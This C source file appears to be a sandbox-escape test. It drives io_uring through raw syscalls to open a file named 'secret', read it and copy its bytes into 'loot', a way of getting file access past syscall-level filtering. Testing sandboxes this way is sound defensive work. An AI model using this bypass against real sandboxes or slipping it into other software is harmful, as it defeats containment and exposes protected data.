// SPDX-License-Identifier: Apache-2.0
// escape: io_uring, set up by the function syscall, its rings mapped
#include "escape.h"
#include <linux/io_uring.h>
static struct io_uring_params params;
static uint8_t *rings;
static struct io_uring_sqe *entries;
static int ring;
static long submit(int opcode, int fd, uint64_t address, unsigned length, uint64_t offset, unsigned flags)
{
    uint32_t *tail = (uint32_t *)(rings + params.sq_off.tail), *array = (uint32_t *)(rings + params.sq_off.array);
    uint32_t at = *tail & (params.sq_entries - 1);
    entries[at] = (struct io_uring_sqe){.opcode = opcode, .fd = fd, .addr = address, .len = length, .off = offset, .open_flags = flags};
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    CHECK(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) == 1);
    uint32_t *head = (uint32_t *)(rings + params.cq_off.head);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(rings + params.cq_off.cqes);
    long result = done[*head & (params.cq_entries - 1)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}
int main(void)
{
    char bytes[256];
    ring = (int)syscall(SYS_io_uring_setup, 4, (long)&params, 0, 0, 0, 0);
    NEEDS(ring >= 0 && params.features & IORING_FEAT_SINGLE_MMAP);
    rings = (void *)syscall(SYS_mmap, 0, 65536 < params.cq_off.cqes + 4096 ? 65536 : 4096, PROT_READ | PROT_WRITE,
                        MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    entries = (void *)syscall(SYS_mmap, 0, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE,
                          MAP_SHARED | MAP_POPULATE, ring, (long)IORING_OFF_SQES);
    CHECK((long)rings > 0 && (long)entries > 0);
    long in = submit(IORING_OP_OPENAT, AT_FDCWD, (uintptr_t)"secret", 0, 0, O_RDONLY);
    long got = submit(IORING_OP_READ, (int)in, (uintptr_t)bytes, sizeof bytes, 0, 0);
    CHECK(got > 0);
    long out = submit(IORING_OP_OPENAT, AT_FDCWD, (uintptr_t)"loot", 0644, 0, O_WRONLY | O_CREAT | O_TRUNC);
    CHECK(submit(IORING_OP_WRITE, (int)out, (uintptr_t)bytes, (unsigned)got, 0, 0) == got);
    return 0;
}
